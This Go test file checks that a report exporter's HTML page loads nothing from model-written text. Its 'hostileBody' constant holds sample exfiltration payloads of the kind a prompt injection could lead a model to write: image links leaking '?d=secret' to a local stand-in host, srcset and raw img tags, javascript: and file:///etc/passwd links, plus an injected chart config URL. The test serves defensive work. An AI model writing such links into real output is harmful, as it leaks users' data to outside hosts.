package report

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostileBody is a report body as a model could write it when told to by
// a prompt injection in the data: every way of making report.html fetch.
// (The report stage already drops inline images; the page must not rely
// on it, so the test sets the body as written.)
const hostileBody = `Inline ![leak](http://127.0.0.1:9/inline?d=secret) and reference ![ref leak][1].

Inline data is fine: ![dot](data:image/png;base64,iVBORw0KGgo=)

<img src="http://127.0.0.1:9/raw"> <picture><source srcset="http://127.0.0.1:9/srcset"></picture>

See [the docs](https://example.org/docs?x=1), <http://127.0.0.1:9/auto>, [run](javascript:alert(2)) and [file](file:///etc/passwd).

{{chart:c1}}

[1]: http://127.0.0.1:9/reference?d=secret
`

// element is an element of the page with its attributes.
type element struct {
	tag   string
	attrs map[string]string
	text  string
}

func elements(t *testing.T, page []byte) []element {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var out []element
	var text func(*html.Node) string
	text = func(n *html.Node) string {
		if n.Type == html.TextNode {
			return n.Data
		}
		var b strings.Builder
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			b.WriteString(text(c))
		}
		return b.String()
	}
	var visit func(*html.Node)
	visit = func(n *html.Node) {
		if n.Type == html.ElementNode {
			e := element{tag: n.Data, attrs: map[string]string{}, text: text(n)}
			for _, a := range n.Attr {
				e.attrs[a.Key] = a.Val
			}
			out = append(out, e)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			visit(c)
		}
	}
	visit(doc)
	return out
}

func TestExportedHTMLLoadsNothingTheModelWrote(t *testing.T) {
	e := loadExploration(t)
	var spec map[string]any
	if err := json.Unmarshal(e.Charts[0].Spec, &spec); err != nil {
		t.Fatal(err)
	}
	spec["usermeta"] = map[string]any{"embedOptions": map[string]any{
		"actions": true, "config": "http://127.0.0.1:9/config.json", "sourceHeader": "<b>PWNED-HEADER</b>",
	}}
	e.Charts[0].Spec, _ = json.Marshal(spec)
	rep, err := Write(context.Background(), &scripted{reply: "# Revenue\n\n{{chart:c1}}\n"}, "test-model", e, nil)
	if err != nil {
		t.Fatal(err)
	}
	rep.Body = hostileBody
	files, err := Export(context.Background(), rep, filepath.Join(t.TempDir(), "r"))
	if err != nil {
		t.Fatal(err)
	}
	page, err := os.ReadFile(files.HTML)
	if err != nil {
		t.Fatal(err)
	}
	var blocked, addresses []string
	var links []string
	for _, el := range elements(t, page) {
		if el.attrs["type"] == "application/json" && strings.Contains(el.text, "usermeta") {
			t.Errorf("a chart spec keeps its usermeta: %s", el.text)
		}
		for _, k := range []string{"src", "srcset", "xlink:href", "poster", "background"} {
			if v, ok := el.attrs[k]; ok && !strings.HasPrefix(v, "data:image/") {
				t.Errorf("<%s %s=%q> would load from outside the page", el.tag, k, v)
			}
		}
		switch el.attrs["class"] {
		case "blocked-image":
			blocked = append(blocked, el.text)
		case "link-address":
			addresses = append(addresses, el.text)
		}
		if el.tag == "a" {
			links = append(links, el.attrs["href"])
		}
		if el.tag == "source" || el.tag == "picture" || el.tag == "iframe" || el.tag == "link" {
			t.Errorf("the page has a <%s>", el.tag)
		}
	}
	wantBlocked := []string{
		"Image not loaded: leak http://127.0.0.1:9/inline?d=secret",
		"Image not loaded: ref leak http://127.0.0.1:9/reference?d=secret",
	}
	if strings.Join(blocked, "\n") != strings.Join(wantBlocked, "\n") {
		t.Errorf("placeholders = %q, want %q", blocked, wantBlocked)
	}
	wantAddr := []string{"(https://example.org/docs?x=1)", "(javascript:alert(2))", "(file:///etc/passwd)"}
	if strings.Join(addresses, "\n") != strings.Join(wantAddr, "\n") {
		t.Errorf("link addresses shown = %q, want %q", addresses, wantAddr)
	}
	if want := []string{"https://example.org/docs?x=1", "http://127.0.0.1:9/auto"}; strings.Join(links, " ") != strings.Join(want, " ") {
		t.Errorf("clickable links = %q, want %q (web addresses only)", links, want)
	}
	text := string(page)
	for _, bad := range []string{"PWNED-HEADER", "config.json", "127.0.0.1:9/raw", "127.0.0.1:9/srcset"} {
		if strings.Contains(text, bad) {
			t.Errorf("page keeps %q", bad)
		}
	}
	if !strings.Contains(text, `<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">`) {
		t.Error("an inline data:image from the text is not drawn")
	}
	if strings.Contains(contentPolicy, "unsafe-eval") || !strings.Contains(text, "ast: true") {
		t.Errorf("the page still needs eval: policy %q", contentPolicy)
	}
}
